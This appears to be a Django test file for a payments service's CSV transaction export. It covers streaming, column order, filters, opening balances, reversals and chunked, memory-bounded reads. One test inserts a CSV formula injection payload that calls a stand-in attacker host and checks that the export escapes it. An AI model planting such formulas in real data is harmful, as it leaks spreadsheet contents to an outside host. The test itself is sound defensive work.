import csv
import io
import re
import tracemalloc
from datetime import UTC, datetime
from unittest import mock

from django.db import connection
from django.test import TestCase
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from payments.models import CreditRequest, Transaction
from payments.selectors import EXPORT_CHUNK_ROWS
from payments.services import phone_charge_create, phone_charge_reverse
from testing.factories import client_for, seller_make, staff_make

# The header before the display columns and the charge id were added (2026-12-05).
EARLIER_COLUMNS = [
    "id", "created_at", "seller", "kind", "amount", "balance_after", "credit_request",
    "phone_number", "reference", "reversed_charge",
]  # fmt: skip
EXPORT_MONEY_COLUMNS = ["amount", "balance_after", "amount_display", "balance_after_display"]


def read_csv(response) -> list[dict]:
    body = b"".join(response.streaming_content).decode()
    return list(csv.DictReader(io.StringIO(body)))


class TransactionExportTests(TestCase):
    def setUp(self):
        self.seller = seller_make(balance=1_000)
        phone_charge_create(seller_id=self.seller.pk, phone_number="+14155550123", amount=250)
        self.other = seller_make(balance=70)
        self.url = reverse("transaction-export")

    def test_export_is_a_streamed_csv_attachment(self):
        response = client_for(self.seller.user).get(self.url)
        self.assertEqual(response.status_code, 200)
        self.assertTrue(response.streaming)
        self.assertEqual(response["Content-Type"], "text/csv; charset=utf-8")
        self.assertIn("attachment", response["Content-Disposition"])

    def test_export_lists_the_callers_journal_oldest_first(self):
        rows = read_csv(client_for(self.seller.user).get(self.url))
        expected = Transaction.objects.filter(seller=self.seller).order_by("id")
        self.assertEqual([int(row["id"]) for row in rows], [t.pk for t in expected])
        self.assertEqual(
            [(row["kind"], row["amount"], row["balance_after"]) for row in rows],
            [("credit", "1000", "1000"), ("charge", "250", "750")],
        )

    def test_export_names_the_source_of_each_row(self):
        credit, charge = read_csv(client_for(self.seller.user).get(self.url))
        self.assertTrue(credit["credit_request"])
        self.assertEqual(credit["phone_number"], "")
        self.assertEqual(charge["phone_number"], "+14155550123")

    def test_export_honours_the_list_filters(self):
        rows = read_csv(client_for(self.seller.user).get(self.url, {"kind": "charge"}))
        self.assertEqual([row["kind"] for row in rows], ["charge"])

    def test_staff_export_covers_every_seller(self):
        rows = read_csv(client_for(staff_make()).get(self.url))
        self.assertEqual({int(row["seller"]) for row in rows}, {self.seller.pk, self.other.pk})

    def test_a_reference_that_is_a_formula_reaches_the_export_as_text(self):
        formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
        phone_charge_create(
            seller_id=self.seller.pk, phone_number="+14155550123", amount=1, reference=formula
        )
        rows = read_csv(client_for(staff_make()).get(self.url, {"kind": "charge"}))
        self.assertEqual([row["reference"] for row in rows], ["", "'" + formula])
        self.assertEqual({row["phone_number"] for row in rows}, {"+14155550123"})

    def test_the_columns_of_earlier_exports_keep_their_places(self):
        body = b"".join(client_for(self.seller.user).get(self.url).streaming_content).decode()
        header = next(csv.reader(io.StringIO(body)))
        self.assertEqual(header[: len(EARLIER_COLUMNS)], EARLIER_COLUMNS)

    def test_dates_are_written_as_the_api_writes_them(self):
        client = client_for(self.seller.user)
        exported = {row["id"]: row["created_at"] for row in read_csv(client.get(self.url))}
        listed = {
            str(row["id"]): row["created_at"]
            for row in client.get(reverse("transaction-list")).json()["results"]
        }
        self.assertEqual(exported, listed)
        self.assertTrue(all(value.endswith("Z") and "T" in value for value in exported.values()))

    def test_amounts_are_integers_with_the_same_in_the_currency_beside_them(self):
        credit, charge = read_csv(client_for(self.seller.user).get(self.url))
        self.assertEqual(
            [charge[column] for column in EXPORT_MONEY_COLUMNS],
            ["250", "750", "2.50 USD", "7.50 USD"],
        )

    def test_export_without_a_token_is_refused_as_json(self):
        response = self.client.get(self.url, HTTP_ACCEPT="text/csv")
        self.assertEqual(response.status_code, 401)
        self.assertEqual(response.json()["code"], "not_authenticated")

    def test_export_reads_rows_in_a_fixed_number_of_queries(self):
        client = client_for(self.seller.user)
        for _ in range(5):
            phone_charge_create(seller_id=self.seller.pk, phone_number="+14155550123", amount=1)
        response = client.get(self.url)
        # however many rows, the journal is read by one query
        with self.assertNumQueries(1):
            rows = read_csv(response)
        self.assertEqual(len(rows), 7)


class RangedExportTests(TestCase):
    """?created_after= starts the export from the opening balance at that instant."""

    @classmethod
    def setUpTestData(cls):
        cls.seller = seller_make(balance=1_000)
        cls.charge = phone_charge_create(
            seller_id=cls.seller.pk, phone_number="+14155550123", amount=250
        )
        cls.other = seller_make(balance=70)
        Transaction.objects.update(created_at=datetime(2026, 11, 1, tzinfo=UTC))
        reversal = phone_charge_reverse(
            charge_id=cls.charge.pk, reversed_by=staff_make(reverser=True)
        )
        Transaction.objects.filter(reversal=reversal).update(
            created_at=datetime(2026, 11, 3, tzinfo=UTC)
        )
        cls.url = reverse("transaction-export")

    def export(self, user, **params) -> list[dict]:
        return read_csv(client_for(user).get(self.url, params))

    def test_a_ranged_export_starts_with_the_opening_balance(self):
        rows = self.export(self.seller.user, created_after="2026-11-02T00:00:00Z")
        self.assertEqual(
            [(row["kind"], row["amount"], row["balance_after"]) for row in rows],
            [("opening_balance", "", "750"), ("reversal", "250", "1000")],
        )

    def test_the_opening_row_is_dated_at_the_start_of_the_range(self):
        (opening, _) = self.export(self.seller.user, created_after="2026-11-02T00:00:00Z")
        self.assertEqual(opening["created_at"], "2026-11-02T00:00:00Z")

    def test_a_reversal_row_names_the_charge_it_gave_back(self):
        (_, reversal) = self.export(self.seller.user, created_after="2026-11-02T00:00:00Z")
        self.assertEqual(reversal["reversed_charge"], str(self.charge.pk))

    def test_a_reversal_row_leads_to_the_charge_row_it_gave_back(self):
        rows = self.export(self.seller.user)
        [reversal] = [row for row in rows if row["kind"] == "reversal"]
        [charge] = [row for row in rows if row["phone_charge"] == reversal["reversed_charge"]]
        self.assertEqual((charge["kind"], charge["amount"]), ("charge", reversal["amount"]))

    def test_an_opening_row_shows_its_balance_in_the_currency_and_no_amount(self):
        (opening, _) = self.export(self.seller.user, created_after="2026-11-02T00:00:00Z")
        self.assertEqual(
            [opening[column] for column in EXPORT_MONEY_COLUMNS], ["", "750", "", "7.50 USD"]
        )

    def test_a_range_ending_before_any_row_is_just_the_opening_balance(self):
        rows = self.export(
            self.seller.user,
            created_after="2026-10-01T00:00:00Z",
            created_before="2026-10-02T00:00:00Z",
        )
        self.assertEqual(
            [(row["kind"], row["balance_after"]) for row in rows], [("opening_balance", "0")]
        )

    def test_staff_get_an_opening_row_per_seller(self):
        rows = self.export(staff_make(), created_after="2026-11-02T00:00:00Z")
        openings = {
            int(row["seller"]): row["balance_after"]
            for row in rows
            if row["kind"] == "opening_balance"
        }
        self.assertEqual(openings, {self.seller.pk: "750", self.other.pk: "70"})

    def test_staff_naming_a_seller_get_only_its_opening_row(self):
        rows = self.export(staff_make(), created_after="2026-11-02T00:00:00Z", seller=self.other.pk)
        self.assertEqual(
            [(row["kind"], row["seller"]) for row in rows],
            [("opening_balance", str(self.other.pk))],
        )

    def test_an_export_without_a_start_has_no_opening_row(self):
        rows = self.export(self.seller.user)
        self.assertNotIn("opening_balance", {row["kind"] for row in rows})


def journal_rows_make(*, seller, count: int) -> None:
    """``count`` credit rows for ``seller``, written in bulk (no services: fast)."""
    requests = CreditRequest.objects.bulk_create(
        [CreditRequest(seller=seller, amount=1) for _ in range(count)], batch_size=2_000
    )
    Transaction.objects.bulk_create(
        [
            Transaction(seller=seller, kind="credit", amount=1, balance_after=n, credit_request=r)
            for n, r in enumerate(requests, start=1)
        ],
        batch_size=2_000,
    )


# Behind PgBouncer in transaction mode (DATABASE_POOLER=pgbouncer) Django may not
# open server-side cursors, so a plain iterator() would fetch the whole result.
behind_a_transaction_pooler = mock.patch.dict(
    connection.settings_dict, {"DISABLE_SERVER_SIDE_CURSORS": True}
)


@behind_a_transaction_pooler
class ExportMemoryTests(TestCase):
    """A long export reads its rows a bounded chunk at a time, whatever the pooler."""

    SMALL = 5_000

    @classmethod
    def setUpTestData(cls):
        cls.small = seller_make()
        cls.large = seller_make()
        journal_rows_make(seller=cls.small, count=cls.SMALL)
        journal_rows_make(seller=cls.large, count=4 * cls.SMALL)
        cls.url = reverse("transaction-export")

    def consume(self, seller) -> int:
        """Read ``seller``'s whole export; return the peak memory Python held meanwhile."""
        response = client_for(seller.user).get(self.url)
        tracemalloc.start()
        try:
            lines = sum(1 for _ in response.streaming_content)
            _, peak = tracemalloc.get_traced_memory()
        finally:
            tracemalloc.stop()
        self.assertEqual(lines, 1 + Transaction.objects.filter(seller=seller).count())
        return peak

    def test_every_journal_query_of_a_long_export_is_limited_to_a_chunk(self):
        rows_per_statement = []

        def count_rows(execute, sql, params, many, context):
            result = execute(sql, params, many, context)
            rows_per_statement.append(context["cursor"].rowcount)  # -1 where unknown
            return result

        response = client_for(self.large.user).get(self.url)
        with (
            CaptureQueriesContext(connection) as queries,
            connection.execute_wrapper(count_rows),
        ):
            rows = read_csv(response)
        self.assertEqual(len(rows), 4 * self.SMALL)
        journal_reads = [q["sql"] for q in queries if '"payments_transaction"' in q["sql"]]
        self.assertGreater(len(journal_reads), 1)
        for sql in journal_reads:
            limit = re.search(r"LIMIT (\d+)$", sql)
            self.assertIsNotNone(limit, f"unbounded journal read: {sql}")
            self.assertLessEqual(int(limit.group(1)), EXPORT_CHUNK_ROWS)
        self.assertLessEqual(max(rows_per_statement), EXPORT_CHUNK_ROWS)

    def test_an_export_four_times_longer_holds_about_the_same_memory(self):
        small_peak = self.consume(self.small)
        large_peak = self.consume(self.large)
        self.assertLess(large_peak, 1.5 * small_peak, (small_peak, large_peak))

    def test_rows_written_during_an_export_are_left_to_the_next_export(self):
        lines = iter(client_for(self.large.user).get(self.url).streaming_content)
        next(lines)  # the header
        next(lines)  # the first row: the first chunk has been read
        journal_rows_make(seller=self.large, count=1)
        self.assertEqual(sum(1 for _ in lines), 4 * self.SMALL - 1)

    def test_a_chunked_export_lists_every_row_once_in_order(self):
        rows = read_csv(client_for(self.large.user).get(self.url))
        expected = Transaction.objects.filter(seller=self.large).order_by("id")
        self.assertEqual(
            [int(row["id"]) for row in rows], list(expected.values_list("id", flat=True))
        )
